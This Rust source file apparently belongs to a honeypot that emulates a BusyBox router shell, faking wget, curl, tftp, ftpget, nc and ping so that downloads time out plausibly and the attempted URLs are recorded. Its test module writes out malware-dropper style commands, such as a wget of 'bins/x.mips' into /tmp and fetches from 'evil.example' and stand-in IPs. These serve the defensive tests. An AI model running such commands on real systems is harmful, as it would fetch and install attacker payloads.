//! The network as the device sees it (`ifconfig`, `ip`, `route`, `netstat`) and downloads that
//! fail plausibly (`wget`, `curl`, `tftp`, `ftpget`): nothing is ever fetched.

use std::fmt::Write as _;

use std::time::Duration;

use crate::shell::{Res, Shell};

/// How long a TCP connect to a silent address takes to fail here (the honeypot never
/// connects: every remote host is "silent").
const CONNECT_TIMEOUT: Duration = Duration::from_secs(5);
/// How long a name lookup takes to fail (the device's resolvers do not answer).
const DNS_TIMEOUT: Duration = Duration::from_secs(2);
/// How long BusyBox `tftp` retries before `timeout`.
const TFTP_TIMEOUT: Duration = Duration::from_secs(8);

/// A failure after a wait: `before` printed at once, then the wait, then `after`.
fn after_wait(before: String, wait: Duration, after: String, status: i32) -> Res {
    let at = before.len();
    let mut err = before;
    err.push_str(&after);
    Res {
        err: err.into_bytes(),
        status,
        pauses: vec![(at, wait)],
        ..Res::default()
    }
}

pub(super) const NETSTAT_SERVERS: &str = "Active Internet connections (servers and established)\n\
Proto Recv-Q Send-Q Local Address           Foreign Address         State       \n\
tcp        0      0 0.0.0.0:80              0.0.0.0:*               LISTEN      \n\
tcp        0      0 0.0.0.0:53              0.0.0.0:*               LISTEN      \n\
tcp        0      0 0.0.0.0:23              0.0.0.0:*               LISTEN      \n\
udp        0      0 0.0.0.0:53              0.0.0.0:*                           \n\
udp        0      0 0.0.0.0:67              0.0.0.0:*                           \n";

/// Is this a dotted IPv4 address (as opposed to a host name needing DNS)?
pub(super) fn is_ipv4(host: &str) -> bool {
    let parts: Vec<&str> = host.split('.').collect();
    parts.len() == 4
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u8>().is_ok())
}

/// Splits a URL into (host, port) for the download tools' messages.
pub(super) fn parse_url(url: &str) -> (String, u16) {
    let (rest, default_port) = if let Some(r) = url.strip_prefix("https://") {
        (r, 443)
    } else if let Some(r) = url.strip_prefix("ftp://") {
        (r, 21)
    } else {
        (url.strip_prefix("http://").unwrap_or(url), 80)
    };
    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let hostport = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    match hostport.rsplit_once(':') {
        Some((h, p)) => (h.to_string(), p.parse().unwrap_or(default_port)),
        None => (hostport.to_string(), default_port),
    }
}

impl Shell {
    /// Positional arguments of a download tool, skipping options that take a value.
    pub(super) fn positionals<'b>(args: &'b [String], with_value: &[&str]) -> Vec<&'b str> {
        let mut out = Vec::new();
        let mut it = args.iter();
        while let Some(a) = it.next() {
            if with_value.contains(&a.as_str()) {
                it.next();
            } else if !a.starts_with('-') || a == "-" {
                out.push(a.as_str());
            }
        }
        out
    }

    pub(super) fn wget(&mut self, args: &[String]) -> Res {
        let pos = Self::positionals(
            args,
            &[
                "-O",
                "-P",
                "-U",
                "-T",
                "-Y",
                "--header",
                "--user-agent",
                "--post-data",
                "-o",
            ],
        );
        let Some(url) = pos.first() else {
            return Res::fail(
                format!(
                    "{} multi-call binary.\n\nUsage: wget [-c|--continue] [-s|--spider] [-q|--quiet] [-O|--output-document FILE]\n\t[--header 'header: value'] [-Y|--proxy on/off] [-P DIR]\n\t[-U|--user-agent AGENT] [-T SEC] URL...\n",
                    self.busybox_version()
                ),
                1,
            );
        };
        for u in &pos {
            self.note_download("wget", u);
        }
        let quiet = args.iter().any(|a| a == "-q" || a == "--quiet");
        let (host, port) = parse_url(url);
        if !is_ipv4(&host) {
            let wait = self.wait(DNS_TIMEOUT);
            return after_wait(
                String::new(),
                wait,
                format!("wget: bad address '{host}'\n"),
                1,
            );
        }
        let mut err = String::new();
        if !quiet {
            let shown = url
                .split("://")
                .nth(1)
                .unwrap_or(url)
                .split(['/', '?'])
                .next()
                .unwrap_or(&host);
            let shown = shown.rsplit_once('@').map_or(shown, |(_, h)| h);
            let _ = writeln!(err, "Connecting to {shown} ({host}:{port})");
        }
        let wait = self.wait(CONNECT_TIMEOUT);
        after_wait(
            err,
            wait,
            format!("wget: can't connect to remote host ({host}): Connection timed out\n"),
            1,
        )
    }

    pub(super) fn curl(&mut self, args: &[String]) -> Res {
        let pos = Self::positionals(
            args,
            &[
                "-o",
                "-A",
                "-H",
                "-d",
                "-X",
                "-u",
                "-e",
                "-m",
                "--connect-timeout",
                "--output",
            ],
        );
        let Some(url) = pos.first() else {
            return Res::fail("curl: try 'curl --help' for more information\n", 2);
        };
        for u in &pos {
            self.note_download("curl", u);
        }
        let (host, port) = parse_url(url);
        if is_ipv4(&host) {
            let wait = self.wait(CONNECT_TIMEOUT);
            after_wait(
                String::new(),
                wait,
                format!(
                    "curl: (7) Failed to connect to {host} port {port}: Connection timed out\n"
                ),
                7,
            )
        } else {
            let wait = self.wait(DNS_TIMEOUT);
            after_wait(
                String::new(),
                wait,
                format!("curl: (6) Couldn't resolve host '{host}'\n"),
                6,
            )
        }
    }

    pub(super) fn tftp(&mut self, args: &[String]) -> Res {
        let pos = Self::positionals(args, &["-l", "-r", "-b"]);
        let Some(host) = pos.first() else {
            return Res::fail(
                format!(
                    "{} multi-call binary.\n\nUsage: tftp [OPTIONS] HOST [PORT]\n\nTransfer a file from/to tftp server\n\n\t-l FILE\tLocal FILE\n\t-r FILE\tRemote FILE\n\t-g\tGet file\n\t-p\tPut file\n\t-b SIZE\tTransfer blocks of SIZE octets\n",
                    self.busybox_version()
                ),
                1,
            );
        };
        let remote = args
            .iter()
            .position(|a| a == "-r")
            .and_then(|i| args.get(i + 1))
            .or_else(|| {
                args.iter()
                    .position(|a| a == "-l")
                    .and_then(|i| args.get(i + 1))
            })
            .map_or("", String::as_str);
        let port = pos.get(1).map_or(String::new(), |p| format!(":{p}"));
        self.note_download("tftp", &format!("tftp://{host}{port}/{remote}"));
        if is_ipv4(host) {
            let wait = self.wait(TFTP_TIMEOUT);
            after_wait(String::new(), wait, "tftp: timeout\n".into(), 1)
        } else {
            let wait = self.wait(DNS_TIMEOUT);
            after_wait(
                String::new(),
                wait,
                format!("tftp: bad address '{host}'\n"),
                1,
            )
        }
    }

    pub(super) fn ftpget(&mut self, name: &str, args: &[String]) -> Res {
        let pos = Self::positionals(
            args,
            &["-u", "-p", "-P", "--username", "--password", "--port"],
        );
        let Some(host) = pos.first() else {
            return Res::fail(
                format!(
                    "{} multi-call binary.\n\nUsage: {name} [OPTIONS] HOST [LOCAL_FILE] REMOTE_FILE\n",
                    self.busybox_version()
                ),
                1,
            );
        };
        if name == "ftpget" {
            // ftpget HOST [LOCAL_FILE] REMOTE_FILE
            let remote = pos.get(2).or(pos.get(1)).copied().unwrap_or("");
            let port = args
                .iter()
                .position(|a| a == "-P" || a == "--port")
                .and_then(|i| args.get(i + 1))
                .map_or(String::new(), |p| format!(":{p}"));
            let remote = remote.trim_start_matches('/');
            self.note_download(name, &format!("ftp://{host}{port}/{remote}"));
        }
        if is_ipv4(host) {
            let wait = self.wait(CONNECT_TIMEOUT);
            after_wait(
                String::new(),
                wait,
                format!("{name}: can't connect to remote host ({host}): Connection timed out\n"),
                1,
            )
        } else {
            let wait = self.wait(DNS_TIMEOUT);
            after_wait(
                String::new(),
                wait,
                format!("{name}: bad address '{host}'\n"),
                1,
            )
        }
    }

    /// `nc HOST PORT` and `telnet HOST [PORT]`: a connect that times out.
    pub(super) fn connect_tool(&mut self, name: &str, args: &[String]) -> Res {
        let pos = Self::positionals(args, &["-p", "-w", "-s", "-e"]);
        let listen = args.iter().any(|a| a.starts_with('-') && a.contains('l'));
        let Some(host) = pos.first().filter(|_| !listen) else {
            if listen {
                // A listener nobody calls: it waits as long as the line may, then the line
                // ends as if interrupted.
                let wait = self.wait(Duration::from_secs(30));
                return Res {
                    pauses: vec![(0, wait)],
                    status: 1,
                    ..Res::default()
                };
            }
            let usage = if name == "nc" {
                "Usage: nc [OPTIONS] HOST PORT  - connect\n"
            } else {
                "Usage: telnet [-a] [-l USER] HOST [PORT]\n"
            };
            return Res::fail(
                format!("{} multi-call binary.\n\n{usage}", self.busybox_version()),
                1,
            );
        };
        if !is_ipv4(host) {
            let wait = self.wait(DNS_TIMEOUT);
            return after_wait(
                String::new(),
                wait,
                format!("{name}: bad address '{host}'\n"),
                1,
            );
        }
        let wait = self.wait(CONNECT_TIMEOUT);
        after_wait(
            String::new(),
            wait,
            format!("{name}: can't connect to remote host ({host}): Connection timed out\n"),
            1,
        )
    }

    /// `ping [-c N] HOST`: a reply a second, then the statistics. Without `-c` it stops
    /// after a few replies, as if interrupted (`^C`).
    pub(super) fn ping(&mut self, args: &[String]) -> Res {
        let pos = Self::positionals(args, &["-c", "-s", "-W", "-w", "-I", "-i", "-t"]);
        let Some(host) = pos.first() else {
            return Res::fail(
                format!(
                    "{} multi-call binary.\n\nUsage: ping [OPTIONS] HOST\n",
                    self.busybox_version()
                ),
                1,
            );
        };
        if !is_ipv4(host) {
            let wait = self.wait(DNS_TIMEOUT);
            return after_wait(
                String::new(),
                wait,
                format!("ping: bad address '{host}'\n"),
                1,
            );
        }
        let count: u32 = args
            .iter()
            .position(|a| a == "-c")
            .and_then(|i| args.get(i + 1))
            .and_then(|c| c.parse().ok())
            .unwrap_or(4)
            .clamp(1, 30);
        let mut out = format!("PING {host} ({host}): 56 data bytes\n");
        let mut pauses = Vec::new();
        let seed = host
            .bytes()
            .fold(7u32, |a, b| a.wrapping_mul(31).wrapping_add(u32::from(b)));
        let mut times = Vec::new();
        for seq in 0..count {
            if seq > 0 {
                let wait = self.wait(Duration::from_secs(1));
                if wait.is_zero() {
                    break;
                }
                pauses.push((out.len(), wait));
            }
            let micros = 18_000 + (seed.wrapping_mul(seq + 3) % 9_000);
            times.push(micros);
            let _ = writeln!(
                out,
                "64 bytes from {host}: seq={seq} ttl=52 time={}.{:03} ms",
                micros / 1000,
                micros % 1000
            );
        }
        let sent = times.len();
        let min = times.iter().min().copied().unwrap_or(0);
        let max = times.iter().max().copied().unwrap_or(0);
        let avg = times.iter().sum::<u32>() / u32::try_from(sent.max(1)).unwrap_or(1);
        let _ = write!(
            out,
            "\n--- {host} ping statistics ---\n{sent} packets transmitted, {sent} packets received, 0% packet loss\nround-trip min/avg/max = {}.{:03}/{}.{:03}/{}.{:03} ms\n",
            min / 1000,
            min % 1000,
            avg / 1000,
            avg % 1000,
            max / 1000,
            max % 1000
        );
        Res {
            out: out.into_bytes(),
            pauses,
            ..Res::default()
        }
    }
}

#[cfg(test)]
#[allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::expect_used,
    clippy::panic
)]
mod tests {
    use crate::shell::test_support::{root, run};

    #[test]
    fn layouts_keep_their_indentation() {
        let mut sh = root();
        assert!(run(&mut sh, "ifconfig").contains("\r\n          inet addr:192.168.1.1  Bcast:"));
        assert!(run(&mut sh, "ip addr").contains("\r\n    inet 192.168.1.1/24 brd"));
        assert!(run(&mut sh, "busybox").contains("\r\n   or: busybox --install [-s] [DIR]\r\n"));
        assert_eq!(run(&mut sh, "cd /proc/self; pwd"), "/proc/self\r\n");
    }

    #[test]
    fn downloads_fail_plausibly() {
        let mut sh = root();
        assert_eq!(
            run(&mut sh, "cd /tmp; wget http://203.0.113.9/bins/x.mips -O x"),
            "Connecting to 203.0.113.9 (203.0.113.9:80)\r\nwget: can't connect to remote host (203.0.113.9): Connection timed out\r\n"
        );
        assert!(!sh.exists("/tmp/x"));
        assert_eq!(
            run(&mut sh, "wget http://evil.example/x"),
            "wget: bad address 'evil.example'\r\n"
        );
        assert_eq!(
            run(&mut sh, "curl -O http://198.51.100.7:8080/a"),
            "curl: (7) Failed to connect to 198.51.100.7 port 8080: Connection timed out\r\n"
        );
        assert_eq!(
            run(&mut sh, "tftp -g -r x 198.51.100.7"),
            "tftp: timeout\r\n"
        );
        assert_eq!(
            run(&mut sh, "ftpget -v -u a -p b 198.51.100.7 x x"),
            "ftpget: can't connect to remote host (198.51.100.7): Connection timed out\r\n"
        );
        assert_eq!(
            run(&mut sh, "wget -q http://1.2.3.4:81/a"),
            "wget: can't connect to remote host (1.2.3.4): Connection timed out\r\n"
        );
    }
}
